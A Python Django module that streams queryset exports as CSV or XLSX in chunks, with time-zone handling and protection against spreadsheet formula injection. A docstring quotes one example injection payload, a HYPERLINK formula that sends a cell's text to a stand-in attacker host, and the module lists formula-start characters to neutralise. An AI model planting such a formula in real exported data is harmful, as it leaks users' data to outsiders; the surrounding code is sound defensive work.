"""Streaming exports of a filtered queryset, so a million rows never sit in memory at once.

A window declares its export once, as a list of `ExportColumn`s: the values each reads and how
they become its cell. Rows are read as plain values from a server-side cursor, in chunks, and
every cell goes through `_cells`, which also makes every text cell safe to open in a spreadsheet
(`text_cell`). CSV streams as it is written; XLSX goes through openpyxl's write-only workbook and
a temporary file, where text is typed as text. Times are read as text in the export's zone
(`local_time`): loading aware datetimes in Python (Django ticket #36960) would cost most of an
export's CPU (ADR 30).
"""

import csv
import io
import tempfile
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from datetime import datetime, tzinfo
from decimal import Decimal
from operator import itemgetter
from typing import Any

from django.db.models import CharField, DurationField, Expression, ExpressionWrapper, F, Value
from django.db.models.functions import Cast, Substr, Trunc
from django.http import FileResponse, StreamingHttpResponse
from django.utils import timezone, translation
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES, ILLEGAL_CHARACTERS_RE

from .tables import WINDOW_TIME

#: Rows fetched from the server-side cursor at a time, and written to the CSV stream at a time.
CHUNK = 2000

#: How an export writes a time it is given as a datetime (`local_time` gives the same text): as
#: the window shows it.
TIME_FORMAT = WINDOW_TIME

#: What a spreadsheet reads as the start of a formula (OWASP's list for CSV injection).
FORMULA_STARTS = frozenset("=+-@\t\r")


@dataclass(frozen=True)
class Moment:
    """What an export is written for: the request's time zone, and the moment it starts."""

    zone: tzinfo
    now: datetime


#: A value read in the database for one export: a function of its `Moment`, giving an expression.
Read = Callable[[Moment], Expression]


def local_time(name: str, *, seconds: bool = False) -> Read:
    """The time `name` as text in the export's zone, "YYYY-MM-DD HH:MM" (":SS" with `seconds`)."""

    def read(moment: Moment) -> Expression:
        kind, length = ("second", 19) if seconds else ("minute", 16)
        return Substr(Cast(Trunc(name, kind, tzinfo=moment.zone), CharField()), 1, length)

    return read


def time_left(name: str) -> Read:
    """The time from the export's moment to the time `name` (a `timedelta`; None without one)."""

    def read(moment: Moment) -> Expression:
        return ExpressionWrapper(F(name) - Value(moment.now), output_field=DurationField())

    return read


@dataclass(frozen=True)
class ExportColumn:
    """One column of an export.

    `field`: what the column reads: a name as `values_list` takes it (a field, a relation's field
    through `__`, an annotation), a `Read` (`local_time`, `time_left`), or a tuple of those.
    `to_cell`: how the value (or the values, in that order) become the cell; without it the one
    value is the cell, and a missing value (None) of a one-field column is an empty cell without
    asking `to_cell`. `choices`: (value, label) pairs, to write a value as its label (translated
    once per export, in the request's language).
    """

    header: Any
    field: str | Read | tuple[str | Read, ...]
    to_cell: Callable[..., Any] | None = None
    choices: Iterable[tuple[Any, Any]] | None = None

    @property
    def fields(self) -> tuple[str | Read, ...]:
        return self.field if isinstance(self.field, tuple) else (self.field,)

    def converter(self, positions: list[int]) -> Callable[[tuple], Any] | None:
        """The cell's value from a row, given where the column's fields are in it; None when it
        is the value of the column's one field as it is."""
        if self.choices is not None:
            labels = {value: str(label) for value, label in self.choices}
            position = positions[0]
            return lambda row: labels.get(row[position], "")
        to_cell = self.to_cell
        if to_cell is None:
            return None
        if len(positions) == 1:
            position = positions[0]
            return lambda row: None if row[position] is None else to_cell(row[position])
        values = itemgetter(*positions)
        return lambda row: to_cell(*values(row))


def text_cell(text: str) -> str:
    """Text as every export writes it: without the characters a spreadsheet file cannot hold, and
    after a single quote when a spreadsheet would read it as a formula (an account renamed
    `=HYPERLINK("http://evil.example/?"&A2)` would send a code's text away). Numbers are not text:
    a negative number stays a number."""
    if text.isprintable() and text[:1] not in FORMULA_STARTS:  # nearly every cell, at C speed
        return text
    text = ILLEGAL_CHARACTERS_RE.sub("", text)  # what openpyxl refuses to store
    return "'" + text if text[:1] in FORMULA_STARTS else text


def _cells(values: list, zone) -> list:
    """Every cell of every export, as it is written: nothing for a missing value, a time in the
    export's zone, text made safe (`text_cell`), anything else as it is."""
    return [
        "" if value is None
        else text_cell(value) if isinstance(value, str)
        else value.astimezone(zone).strftime(TIME_FORMAT) if isinstance(value, datetime)
        else value
        for value in values
    ]


def _rows(queryset, columns: list[ExportColumn]) -> Iterator[list]:
    """The header, then each row's cells, read from a server-side cursor in chunks."""
    yield [str(c.header) for c in columns]
    moment = Moment(zone=timezone.get_current_timezone(), now=timezone.now())
    reads: dict[Any, int] = {}  # each name (or Read) -> its position in the row
    for column in columns:
        for field in column.fields:
            reads.setdefault(field, len(reads))
    selected = [field if isinstance(field, str) else field(moment) for field in reads]
    positions = [[reads[field] for field in column.fields] for column in columns]
    converted = [
        (index, convert)
        for index, (column, where) in enumerate(zip(columns, positions, strict=True))
        if (convert := column.converter(where))
    ]
    firsts = [where[0] for where in positions]
    for row in queryset.values_list(*selected).iterator(chunk_size=CHUNK):
        values = [row[position] for position in firsts]
        for index, convert in converted:
            values[index] = convert(row)
        yield _cells(values, moment.zone)


def _csv_pieces(queryset, columns: list[ExportColumn], zone, language) -> Iterator[str]:
    # The body streams after the middleware has reset the time zone and language: keep the
    # request's own. A chunk of rows per piece: a few large pieces, not a million small ones.
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    with timezone.override(zone), translation.override(language):
        chunk = []
        for row in _rows(queryset, columns):
            chunk.append(row)
            if len(chunk) >= CHUNK:
                writer.writerows(chunk)
                chunk = []
                yield buffer.getvalue()
                buffer.seek(0)
                buffer.truncate()
        if chunk:
            writer.writerows(chunk)
            yield buffer.getvalue()


def csv_response(queryset, columns: list[ExportColumn], filename: str) -> StreamingHttpResponse:
    response = StreamingHttpResponse(
        _csv_pieces(queryset, columns, timezone.get_current_timezone(), translation.get_language()),
        content_type="text/csv; charset=utf-8",
    )
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def _xlsx_cell(sheet, value):
    """Numbers stay numbers (prices as decimals); everything else is text. openpyxl types a text
    by its first letters: one it would take for a formula or an error value ("#N/A") goes in a
    cell typed as text."""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith("=") or text in ERROR_CODES:
        cell = WriteOnlyCell(sheet, text)
        cell.data_type = "s"
        return cell
    return text


def xlsx_response(queryset, columns: list[ExportColumn], filename: str) -> FileResponse:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=filename[:31])
    for row in _rows(queryset, columns):
        sheet.append([_xlsx_cell(sheet, v) for v in row])
    spool = tempfile.TemporaryFile()
    workbook.save(spool)
    spool.seek(0)
    return FileResponse(
        spool,
        as_attachment=True,
        filename=f"{filename}.xlsx",
        content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )


def export_response(kind: str, queryset, columns: Iterable[ExportColumn], filename: str):
    columns = list(columns)
    if kind == "xlsx":
        return xlsx_response(queryset, columns, filename)
    return csv_response(queryset, columns, filename)
